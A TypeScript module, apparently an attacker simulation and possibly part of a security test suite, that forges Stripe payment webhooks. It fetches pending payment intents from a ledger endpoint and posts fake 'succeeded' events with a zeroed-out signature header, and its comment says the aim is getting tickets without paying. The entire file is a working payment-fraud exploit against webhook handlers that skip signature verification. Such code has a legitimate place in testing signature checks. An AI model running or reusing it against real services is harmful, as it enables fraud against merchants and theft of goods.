interface Intent {
  id: string;
  status: string;
  amount: number;
}

const newest = 10;

/** Claims, without the secret, that every waiting intent was paid: what somebody would send to get tickets for nothing. */
export async function forgeWebhooks(at: { stripeUrl: string; webhookUrl: string }): Promise<void> {
  const records = await fetch(`${at.stripeUrl}/ledger.json`).catch(() => undefined);
  if (!records?.ok) return;
  const { intents } = (await records.json()) as { intents: Intent[] };
  const waiting = intents.filter(({ status }) => status.startsWith('requires_')).slice(-newest);
  for (const intent of waiting) {
    await forge(at.webhookUrl, intent, 'payment_intent.amount_capturable_updated', 'requires_capture');
    await forge(at.webhookUrl, intent, 'payment_intent.succeeded', 'succeeded');
  }
}

async function forge(webhookUrl: string, intent: Intent, type: string, status: string): Promise<void> {
  const object = { ...intent, status, amount_received: intent.amount, object: 'payment_intent' };
  await fetch(webhookUrl, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'stripe-signature': `t=${Math.floor(Date.now() / 1000)},v1=${'0'.repeat(64)}`,
    },
    body: JSON.stringify({
      id: `evt_forged_${intent.id}_${status}`,
      object: 'event',
      type,
      data: { object },
    }),
    signal: AbortSignal.timeout(2000),
  }).catch(() => undefined);
}
